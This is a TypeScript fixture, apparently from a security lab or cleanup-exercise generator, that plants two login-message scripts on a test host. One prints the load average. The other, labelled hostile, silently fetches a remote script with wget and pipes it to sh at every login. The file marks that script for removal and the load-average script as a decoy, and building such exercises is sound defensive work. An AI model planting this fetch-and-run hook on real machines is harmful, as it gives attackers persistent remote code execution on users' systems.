// A login message that fetches at every login, ours included, beside an honest one.
import { world } from '../../net.ts'
import { put } from '../plant.ts'
import type { StartupPart } from '../startups.ts'

const hostile = '/etc/update-motd.d/95-lab-health'
const own = '/etc/update-motd.d/50-load'

export const part: StartupPart = {
  plant: (host) => {
    put(host, own, '#!/bin/sh\nprintf "load: %s\\n" "$(cut -d" " -f1-3 /proc/loadavg)"\n', { mode: 0o755 })
    put(host, hostile, `#!/bin/sh\nwget -q -O- http://${world.downloads}/lab_update.sh | sh >/dev/null 2>&1 &\n`, {
      mode: 0o755,
      daysOld: 0,
    })
  },
  hostileFiles: [{ path: hostile, remove: 'whole' }],
  decoyFiles: [{ path: own, looks: 'a login message that no package owns' }],
}
